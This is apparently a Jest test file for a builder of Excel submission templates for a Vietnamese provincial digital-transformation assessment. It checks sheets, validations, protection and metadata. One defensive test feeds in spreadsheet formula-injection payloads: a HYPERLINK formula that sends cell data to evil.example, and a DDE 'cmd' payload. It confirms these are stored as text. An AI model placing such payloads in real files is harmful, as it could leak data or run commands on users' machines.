import ExcelJS from 'exceljs';
import { everyTypeFramework, pdti2022WithSelfNumbers, rowOf } from '../../../test/fixtures/workbooks/template-helpers';
import { readWorkbookSafely } from '../../workbooks/safe-workbook';
import type { Framework } from '../../engine/framework.model';
import { buildSubmissionTemplate, type TemplateInput } from './build-template';
import { COLUMNS, SHEETS, TEMPLATE_FORMAT, templateRows } from './template-layout';

const cycle = { id: '7a1c0e2e-0000-4000-8000-000000000022', year: 2022, nameVi: 'Đánh giá DTI cấp tỉnh năm 2022' };
const unit = { id: '5b2d0f3f-0000-4000-8000-000000000001', code: '01', nameVi: 'Thành phố Hà Nội' };

/** exceljs keeps a sheet's protection at runtime without declaring it in its types. */
const protectionOf = (ws: ExcelJS.Worksheet): Record<string, unknown> | null =>
  (ws as unknown as { sheetProtection: Record<string, unknown> | null }).sheetProtection;

async function build(framework: Framework, over: Partial<TemplateInput> = {}): Promise<ExcelJS.Workbook> {
  const buffer = await buildSubmissionTemplate({ framework, cycle, unit, submissionVersion: 4, answers: {}, ...over });
  return readWorkbookSafely(buffer);
}

describe('buildSubmissionTemplate', () => {
  const framework = pdti2022WithSelfNumbers();
  let workbook: ExcelJS.Workbook;
  let sheet: ExcelJS.Worksheet;
  beforeAll(async () => {
    workbook = await build(framework, {
      answers: {
        'NT.02': { value: 45.5, note: 'Theo báo cáo số 12/BC-UBND' },
        'NT.03': { value: 'partial', note: null },
        'NT.04': { value: { numerator: 120, denominator: 200 }, note: 'Số liệu quý IV' },
        'NT.05': { value: 'Đã ban hành kế hoạch 🇻🇳', note: null },
        'NT.06': { value: true, note: null },
        'TC.05': { value: false, note: null },
        // A system leaf's stored value is not the unit's to edit: it has no row.
        'NT.01': { value: 99, note: null },
      },
    });
    sheet = workbook.getWorksheet(SHEETS.answers)!;
  });

  it('has the four sheets, the list and meta sheets very hidden, the answers sheet active', () => {
    expect(workbook.worksheets.map((s) => [s.name, s.state])).toEqual([
      [SHEETS.guide, 'visible'],
      [SHEETS.answers, 'visible'],
      [SHEETS.lists, 'veryHidden'],
      [SHEETS.meta, 'veryHidden'],
    ]);
    expect(workbook.views[0]).toMatchObject({ activeTab: 1 });
  });

  it('has one row per answered leaf (no system leaves) and one per part of a numbers input, in framework order', () => {
    const keys: string[] = [];
    for (let r = 2; r <= sheet.rowCount; r++) keys.push(String(sheet.getCell(r, 1).value));
    expect(keys).toEqual(templateRows(framework).map((row) => row.key));
    expect(keys.slice(0, 7)).toEqual(['NT.02', 'NT.03', 'NT.04 (numerator)', 'NT.04 (denominator)', 'NT.05', 'NT.06', 'NT.08']);
    expect(keys).not.toContain('NT.01');
    expect(keys).not.toContain('NT.10 (numerator)');
    // 98 leaves, 34 of them system-measured, plus the second part of NT.04.
    expect(keys).toHaveLength(98 - 34 + 1 + 1);
  });

  it('has the header frozen, the column widths, and the descriptive columns', () => {
    expect(sheet.getRow(1).values).toEqual([undefined, ...COLUMNS.map((c) => c.header)]);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1, topLeftCell: 'A2' });
    expect(COLUMNS.map((_, i) => sheet.getColumn(i + 1).width)).toEqual(COLUMNS.map((c) => c.width));
    expect(rowOf(sheet, 'NT.02').values).toEqual([
      undefined,
      'NT.02',
      'Chỉ tiêu minh họa 1.2',
      'NT — Nhận thức số',
      'Tỷ lệ % (0–100)',
      'Số từ 0 đến 100 %',
      10,
      45.5,
      'Theo báo cáo số 12/BC-UBND',
    ]);
    expect(rowOf(sheet, 'NT.04 (denominator)').getCell(2).value).toBe('Chỉ tiêu minh họa 1.4 — mẫu số');
  });

  it('prefills the current answers: Có/Không, a choice by its label, parts of numbers, text, notes', () => {
    expect(rowOf(sheet, 'NT.06').getCell(7).value).toBe('Có');
    expect(rowOf(sheet, 'TC.05').getCell(7).value).toBe('Không');
    expect(rowOf(sheet, 'NT.03').getCell(7).value).toBe('Triển khai một phần');
    expect(rowOf(sheet, 'NT.04 (numerator)').getCell(7).value).toBe(120);
    expect(rowOf(sheet, 'NT.04 (denominator)').getCell(7).value).toBe(200);
    expect(rowOf(sheet, 'NT.04 (numerator)').getCell(8).value).toBe('Số liệu quý IV');
    expect(rowOf(sheet, 'NT.05').getCell(7).value).toBe('Đã ban hành kế hoạch 🇻🇳');
    expect(rowOf(sheet, 'NT.08').getCell(7).value).toBeNull();
  });

  it('gives boolean and choice cells a dropdown from the hidden list sheet', () => {
    const lists = workbook.getWorksheet(SHEETS.lists)!;
    const listOf = (ref: string): unknown[] => {
      const m = /^'Danh sách'!\$([A-Z]+)\$(\d+):\$([A-Z]+)\$(\d+)$/.exec(ref)!;
      const out: unknown[] = [];
      for (let r = Number(m[2]); r <= Number(m[4]); r++) out.push(lists.getCell(`${m[1]}${r}`).value);
      return out;
    };
    const boolean = rowOf(sheet, 'NT.06').getCell(7).dataValidation;
    expect(boolean).toMatchObject({ type: 'list', allowBlank: true, showErrorMessage: true });
    expect(listOf(boolean.formulae[0] as string)).toEqual(['Có', 'Không']);
    const choice = rowOf(sheet, 'NT.03').getCell(7).dataValidation;
    expect(choice.type).toBe('list');
    expect(listOf(choice.formulae[0] as string)).toEqual(['Chưa triển khai', 'Triển khai một phần', 'Triển khai đầy đủ']);
    // Choices with the same options share one list.
    expect(rowOf(sheet, 'NT.09').getCell(7).dataValidation.formulae).toEqual(choice.formulae);
  });

  it('gives numeric cells decimal or whole validations with their ranges, text cells a length limit', async () => {
    expect(rowOf(sheet, 'NT.02').getCell(7).dataValidation).toMatchObject({ type: 'decimal', operator: 'between', formulae: [0, 100] });
    expect(rowOf(sheet, 'NT.04 (numerator)').getCell(7).dataValidation).toMatchObject({ type: 'decimal', formulae: [0, 1e15] });
    expect(rowOf(sheet, 'NT.05').getCell(7).dataValidation).toMatchObject({ type: 'textLength', operator: 'lessThanOrEqual', formulae: [10000] });
    const small = (await build(everyTypeFramework())).getWorksheet(SHEETS.answers)!;
    expect(rowOf(small, 'N.1').getCell(7).dataValidation).toMatchObject({ type: 'decimal', operator: 'between', formulae: [0, 1000] });
    expect(rowOf(small, 'I.1').getCell(7).dataValidation).toMatchObject({ type: 'whole', operator: 'between', formulae: [0, 10] });
    expect(rowOf(small, 'C.2').getCell(7).dataValidation.type).toBe('list');
    expect(rowOf(small, 'C.2').getCell(5).value).toBe('1; 2');
    expect(rowOf(small, 'I.1').getCell(5).value).toBe('Số nguyên từ 0 đến 10');
  });

  it('protects the sheet, with only the Giá trị and Ghi chú cells unlocked (one note per numbers input)', () => {
    expect(protectionOf(sheet)).toMatchObject({ sheet: true });
    expect(protectionOf(sheet)).not.toHaveProperty('hashValue');
    for (let r = 1; r <= sheet.rowCount; r++) {
      for (let c = 1; c <= COLUMNS.length; c++) {
        const unlocked = r > 1 && (c === 7 || (c === 8 && sheet.getCell(r, 1).value !== 'NT.04 (denominator)'));
        expect([r, c, sheet.getCell(r, c).protection?.locked === false]).toEqual([r, c, unlocked]);
      }
    }
    for (const name of [SHEETS.guide, SHEETS.lists, SHEETS.meta]) expect(protectionOf(workbook.getWorksheet(name)!)).toMatchObject({ sheet: true });
  });

  it('writes the _meta sheet: format, cycle, unit, framework and submission version', () => {
    const meta = workbook.getWorksheet(SHEETS.meta)!;
    const values = Object.fromEntries(meta.getSheetValues().slice(1).map((row) => [(row as unknown[])[1], (row as unknown[])[2]]));
    expect(values).toEqual({
      format: TEMPLATE_FORMAT,
      cycleId: cycle.id,
      cycleYear: 2022,
      unitId: unit.id,
      unitCode: '01',
      frameworkCode: 'PDTI',
      frameworkVersion: '2022.1',
      submissionVersion: 4,
    });
  });

  it('states the unit, the cycle and the submission version in the Vietnamese instructions', () => {
    const guide = workbook.getWorksheet(SHEETS.guide)!;
    const text: string[] = [];
    guide.eachRow((row) => row.eachCell((cell) => text.push(String(cell.value))));
    const all = text.join('\n');
    expect(all).toContain('Thành phố Hà Nội (mã 01)');
    expect(all).toContain('Đánh giá DTI cấp tỉnh năm 2022 — năm số liệu 2022');
    expect(all).toContain('phiên bản 4 của hồ sơ');
    expect(all).toContain('không dùng công thức');
    for (const label of ['Có/Không', 'Lựa chọn', 'Số', 'Số nguyên', 'Tỷ lệ % (0–100)', 'Số (thành phần)', 'Văn bản']) expect(text).toContain(label);
  });

  it('writes formula-looking unit names, notes and text answers as text, never as formulas', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
    const wb = await build(pdti2022WithSelfNumbers(), {
      unit: { ...unit, nameVi: evil, code: '+01' },
      answers: { 'NT.05': { value: '@SUM(1+1)*cmd|" /C calc"!A0', note: '-2+3' }, 'NT.02': { value: 10, note: '=1+1' } },
    });
    const cells: ExcelJS.Cell[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula !== undefined)).toEqual([]);
    const answers = wb.getWorksheet(SHEETS.answers)!;
    expect(rowOf(answers, 'NT.05').getCell(7).value).toBe('@SUM(1+1)*cmd|" /C calc"!A0');
    expect(rowOf(answers, 'NT.05').getCell(8).value).toBe('-2+3');
    expect(rowOf(answers, 'NT.02').getCell(8).type).toBe(ExcelJS.ValueType.String);
    expect(cells.some((c) => c.value === `${evil} (mã +01)`)).toBe(true);
  });

  it('takes a second or so at most for the largest shipped framework', async () => {
    const started = Date.now();
    await buildSubmissionTemplate({ framework, cycle, unit, submissionVersion: 1, answers: {} });
    expect(Date.now() - started).toBeLessThan(2000);
  });
});
